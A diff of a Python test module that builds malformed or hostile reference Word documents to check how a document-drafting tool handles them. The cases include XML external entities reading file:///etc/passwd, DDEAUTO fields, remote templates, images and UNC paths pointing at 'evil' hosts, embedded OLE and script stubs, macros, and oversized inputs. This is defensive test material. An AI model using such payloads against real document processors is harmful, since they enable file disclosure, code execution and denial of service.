@@ -6,8 +6,10 @@ import re
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
+from functools import partial
 from pathlib import Path
+from types import MappingProxyType
 
 from . import office
 from .case import EITHER, FIXTURE, PASSES, REFUSED, Case, Done, Run
@@ -54,15 +56,15 @@ def _clean(folder: Path, done: list[Done]) -> str:
     return ""
 
 
-def _foot(inside: str, relations: str = "", **others: bytes) -> Parts:
-    """The document with something at the end of its footer."""
+def _foot(inside: str, relations: str = "", others: Mapping[str, bytes] = MappingProxyType({})) -> Parts:
+    """The document with something at the end of its footer, its relations, and parts more."""
     base = dict(office.document())
     text = base[_FOOT].decode()
     at = text.rindex("</w:p>")
     base[_FOOT] = (text[:at] + inside + text[at:]).encode()
     if relations:
         base[_RELS] = _relations(relations)
-    return {**base, **{name.replace("__", "/").replace("_dot_", "."): data for name, data in others.items()}}
+    return {**base, **others}
 
 
 def _relations(inside: str) -> bytes:
@@ -80,7 +82,7 @@ def _picture(relation: str) -> str:
         '<wp:extent cx="1" cy="1"/><wp:docPr id="1" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
         '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
         '<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {}="rId77"/></pic:blipFill>'
-        '<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
+        "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
     )
     return drawing.format(relation)
 
@@ -95,6 +97,11 @@ def png(width: int, height: int, filler: bytes = b"") -> bytes:
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(filler)) + chunk(b"IEND", b"")
 
 
+def _pictured(target: str, content: bytes) -> Parts:
+    """A picture in the footer: what stands at its target."""
+    return _foot(_picture("r:embed"), _relation("image", target, external=False), {f"word/{target}": content})
+
+
 def _related(part: str, relation: str) -> Parts:
     """An external relationship in any part."""
     base = dict(office.document())
@@ -107,7 +114,12 @@ def _related(part: str, relation: str) -> Parts:
 def _doctype(part: str, encoding: str = "utf-8") -> Parts:
     base = dict(office.document())
     text = base[part].decode()
-    text = re.sub(r"(<\?xml[^>]*\?>\s*)?", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', text, count=1)
+    text = re.sub(
+        r"(<\?xml[^>]*\?>\s*)?",
+        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
+        text,
+        count=1,
+    )
     return {**base, part: text.encode(encoding)}
 
 
@@ -118,49 +130,199 @@ def _section(inside: str) -> Parts:
 def _makers() -> Iterator[tuple[str, Callable[[], Parts], str]]:
     for field in _FIELDS:
         said = field.replace('"', "&quot;")
-        yield f"field {field[:24]}", lambda said=said: _foot(_FIELD.format(said)), EITHER
+        yield f"field {field[:24]}", partial(_foot, _FIELD.format(said)), EITHER
     for field in _FIELDS[:4]:
         said = field.replace('"', "&quot;")
-        yield f"simple field {field[:24]}", lambda said=said: _foot(_SIMPLE.format(said)), EITHER
+        yield f"simple field {field[:24]}", partial(_foot, _SIMPLE.format(said)), EITHER
     split = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
     yield "a field in two runs", lambda: _foot(split), EITHER
-    nested = _FIELD.format("PAGE").replace("PAGE", "</w:instrText></w:r>" + _FIELD.format("DDEAUTO a b") + "<w:r><w:instrText>")
+    nested = _FIELD.format("PAGE").replace(
+        "PAGE", "</w:instrText></w:r>" + _FIELD.format("DDEAUTO a b") + "<w:r><w:instrText>"
+    )
     yield "a field inside PAGE", lambda: _foot(nested), EITHER
-    yield "VML picture", lambda: _foot('<w:r><w:pict><v:shape><v:imagedata r:id="rId77"/></v:shape></w:pict></w:r>', _relation("image", "http://evil/x.png")), EITHER
-    yield "VML with src", lambda: _foot('<w:r><w:pict><v:shape><v:imagedata src="http://evil/x.png"/></v:shape></w:pict></w:r>'), EITHER
-    yield "VML under another prefix", lambda: _foot('<w:r><w:pict><q:shape xmlns:q="urn:schemas-microsoft-com:vml"><q:imagedata src="http://evil/x"/></q:shape></w:pict></w:r>'), EITHER
-    yield "OLE object", lambda: _foot('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId77"/></w:object></w:r>', _relation("oleObject", "embeddings/x.bin", external=False), **{"word__embeddings__x_dot_bin": b"MZ"}), EITHER
-    yield "altChunk", lambda: office.changed({**office.document(), "word/x.html": b"<script>1</script>"}, _DOC, "<w:sectPr>", '<w:altChunk r:id="rId77"/><w:sectPr>'), EITHER
+    yield (
+        "VML picture",
+        lambda: _foot(
+            '<w:r><w:pict><v:shape><v:imagedata r:id="rId77"/></v:shape></w:pict></w:r>',
+            _relation("image", "http://evil/x.png"),
+        ),
+        EITHER,
+    )
+    yield (
+        "VML with src",
+        lambda: _foot('<w:r><w:pict><v:shape><v:imagedata src="http://evil/x.png"/></v:shape></w:pict></w:r>'),
+        EITHER,
+    )
+    yield (
+        "VML under another prefix",
+        lambda: _foot(
+            '<w:r><w:pict><q:shape xmlns:q="urn:schemas-microsoft-com:vml"><q:imagedata src="http://evil/x"/></q:shape></w:pict></w:r>'
+        ),
+        EITHER,
+    )
+    yield (
+        "OLE object",
+        lambda: _foot(
+            '<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId77"/></w:object></w:r>',
+            _relation("oleObject", "embeddings/x.bin", external=False),
+            {"word/embeddings/x.bin": b"MZ"},
+        ),
+        EITHER,
+    )
+    yield (
+        "altChunk",
+        lambda: office.changed(
+            {**office.document(), "word/x.html": b"<script>1</script>"},
+            _DOC,
+            "<w:sectPr>",
+            '<w:altChunk r:id="rId77"/><w:sectPr>',
+        ),
+        EITHER,
+    )
     yield "a linked picture", lambda: _foot(_picture("r:link"), _relation("image", "http://evil/x.png")), EITHER
     yield "a picture outside", lambda: _foot(_picture("r:embed"), _relation("image", "file:///etc/passwd")), EITHER
-    for name, data in {"svg": b"<svg onload='x'/>", "emf": b"\x01\0\0\0", "png": b"<script>", "jpeg": b"MZ", "html": b"<script>1</script>"}.items():
-        yield f"a picture that is {name}, not what it says", lambda name=name, data=data: _foot(_picture("r:embed"), _relation("image", f"media/x.{name}", external=False), **{f"word__media__x_dot_{name}": data}), EITHER
+    for name, data in {
+        "svg": b"<svg onload='x'/>",
+        "emf": b"\x01\0\0\0",
+        "png": b"<script>",
+        "jpeg": b"MZ",
+        "html": b"<script>1</script>",
+    }.items():
+        yield (
+            f"a picture that is {name}, not what it says",
+            partial(_pictured, f"media/x.{name}", data),
+            EITHER,
+        )
     for size in ((1, 1), (60000, 60000), (2**31 - 1, 2**31 - 1), (0, 0)):
-        yield f"a PNG of {size[0]} × {size[1]}", lambda size=size: _foot(_picture("r:embed"), _relation("image", "media/x.png", external=False), **{"word__media__x_dot_png": png(*size, b"\0" * 10**6)}), EITHER
-    for part in ("word/_rels/document.xml.rels", "word/_rels/footer1.xml.rels", "word/_rels/styles.xml.rels", "word/_rels/settings.xml.rels", "word/theme/_rels/theme1.xml.rels", "word/_rels/fontTable.xml.rels", "word/_rels/numbering.xml.rels", "_rels/.rels"):
+        yield (
+            f"a PNG of {size[0]} × {size[1]}",
+            partial(_pictured, "media/x.png", png(*size, b"\0" * 10**5)),
+            EITHER,
+        )
+    for part in (
+        "word/_rels/document.xml.rels",
+        "word/_rels/footer1.xml.rels",
+        "word/_rels/styles.xml.rels",
+        "word/_rels/settings.xml.rels",
+        "word/theme/_rels/theme1.xml.rels",
+        "word/_rels/fontTable.xml.rels",
+        "word/_rels/numbering.xml.rels",
+        "_rels/.rels",
+    ):
         for kind in ("image", "attachedTemplate", "hyperlink"):
-            yield f"external {kind} in {part}", lambda part=part, kind=kind: _related(part, _relation(kind, "http://evil/x")), EITHER
-    yield "theme with a linked picture", lambda: _related("word/theme/_rels/theme1.xml.rels", _relation("image", "\\\\\\\\evil\\x.png")), EITHER
-    for part in (_DOC, "word/styles.xml", _FOOT, "word/theme/theme1.xml", "word/settings.xml", "[Content_Types].xml", "_rels/.rels", "docProps/core.xml"):
+            yield (
+                f"external {kind} in {part}",
+                partial(_related, part, _relation(kind, "http://evil/x")),
+                EITHER,
+            )
+    yield (
+        "theme with a linked picture",
+        lambda: _related("word/theme/_rels/theme1.xml.rels", _relation("image", "\\\\\\\\evil\\x.png")),
+        EITHER,
+    )
+    for part in (
+        _DOC,
+        "word/styles.xml",
+        _FOOT,
+        "word/theme/theme1.xml",
+        "word/settings.xml",
+        "[Content_Types].xml",
+        "_rels/.rels",
+        "docProps/core.xml",
+    ):
         for encoding in ("utf-8", "utf-16"):
-            yield f"DOCTYPE in {part}, {encoding}", lambda part=part, encoding=encoding: _doctype(part, encoding), EITHER
+            yield (
+                f"DOCTYPE in {part}, {encoding}",
+                partial(_doctype, part, encoding),
+                EITHER,
+            )
     yield "no section", lambda: _section(""), PASSES
     for width, height in ((100, 100), (0, 0), (-5, -5), (31680, 31680), (10**9, 10**9), (11906, 567)):
-        yield f"a page of {width} × {height}", lambda width=width, height=height: _section(f'<w:sectPr><w:pgSz w:w="{width}" w:h="{height}"/></w:sectPr>'), EITHER
+        yield (
+            f"a page of {width} × {height}",
+            partial(_section, f'<w:sectPr><w:pgSz w:w="{width}" w:h="{height}"/></w:sectPr>'),
+            EITHER,
+        )
     for margin in ("-99999", "99999", "x", "1.5"):
-        yield f"a margin of {margin}", lambda margin=margin: _section(f'<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="{margin}" w:right="{margin}" w:bottom="{margin}" w:left="{margin}" w:header="1" w:footer="1" w:gutter="0"/></w:sectPr>'), EITHER
-    yield "styles in a circle", lambda: office.changed(office.document(), "word/styles.xml", "</w:styles>", "".join(f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>' for a, b in ("XY", "YX")) + "</w:styles>"), EITHER
-    yield "50,000 styles", lambda: office.changed(office.document(), "word/styles.xml", "</w:styles>", "".join(f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="S{n}"/></w:style>' for n in range(50_000)) + "</w:styles>"), EITHER
+        yield (
+            f"a margin of {margin}",
+            partial(
+                _section,
+                f'<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="{margin}" w:right="{margin}" w:bottom="{margin}" w:left="{margin}" w:header="1" w:footer="1" w:gutter="0"/></w:sectPr>',
+            ),
+            EITHER,
+        )
+    yield (
+        "styles in a circle",
+        lambda: office.changed(
+            office.document(),
+            "word/styles.xml",
+            "</w:styles>",
+            "".join(
+                f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>'
+                for a, b in ("XY", "YX")
+            )
+            + "</w:styles>",
+        ),
+        EITHER,
+    )
+    yield (
+        "50,000 styles",
+        lambda: office.changed(
+            office.document(),
+            "word/styles.xml",
+            "</w:styles>",
+            "".join(
+                f'<w:style w:type="paragraph" w:styleId="S{n}"><w:name w:val="S{n}"/></w:style>' for n in range(50_000)
+            )
+            + "</w:styles>",
+        ),
+        EITHER,
+    )
     yield "a footer 100,000 deep", lambda: _foot("<w:r>" * 10**5 + "</w:r>" * 10**5), EITHER
     yield "a footer of 1,000,000 runs", lambda: _foot("<w:r><w:t>x</w:t></w:r>" * 10**6), EITHER
     yield "a macro", lambda: {**office.document(), "word/vbaProject.bin": b"x"}, EITHER
-    yield "an attached template", lambda: office.changed({**office.document(), "word/_rels/settings.xml.rels": _relations(_relation("attachedTemplate", "http://evil/x.dotm"))}, "word/settings.xml", "</w:settings>", f'<w:attachedTemplate xmlns:r="{_OFFICE}" r:id="rId77"/></w:settings>'), EITHER
-    yield "settings that ask for a field update and mail merge", lambda: office.changed(office.document(), "word/settings.xml", "</w:settings>", '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>'), EITHER
-    yield "a script in the footer's text", lambda: _foot('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/"/></w:sdtPr><w:sdtContent/></w:sdt>'), EITHER
-    yield "an event handler", lambda: _foot('<w:r><w:control r:id="rId77" w:name="x"/></w:r>', _relation("control", "x.bin", external=False)), EITHER
+    yield (
+        "an attached template",
+        lambda: office.changed(
+            {
+                **office.document(),
+                "word/_rels/settings.xml.rels": _relations(_relation("attachedTemplate", "http://evil/x.dotm")),
+            },
+            "word/settings.xml",
+            "</w:settings>",
+            f'<w:attachedTemplate xmlns:r="{_OFFICE}" r:id="rId77"/></w:settings>',
+        ),
+        EITHER,
+    )
+    yield (
+        "settings that ask for a field update and mail merge",
+        lambda: office.changed(
+            office.document(),
+            "word/settings.xml",
+            "</w:settings>",
+            '<w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>',
+        ),
+        EITHER,
+    )
+    yield (
+        "a script in the footer's text",
+        lambda: _foot('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/"/></w:sdtPr><w:sdtContent/></w:sdt>'),
+        EITHER,
+    )
+    yield (
+        "an event handler",
+        lambda: _foot('<w:r><w:control r:id="rId77" w:name="x"/></w:r>', _relation("control", "x.bin", external=False)),
+        EITHER,
+    )
 
 
-_RUN = Run(("draft", str(FIXTURE), "--reference-doc", "ref.docx", "-o", "out.docx"), ("out.docx",), truth="unit docx", printed="out.docx")
+_RUN = Run(
+    ("draft", str(FIXTURE), "--reference-doc", "ref.docx", "-o", "out.docx"),
+    ("out.docx",),
+    truth="unit docx",
+    printed="out.docx",
+)
 
 
 def _put(parts: Callable[[], Parts], method: int = zipfile.ZIP_DEFLATED) -> Callable[[Path], None]:
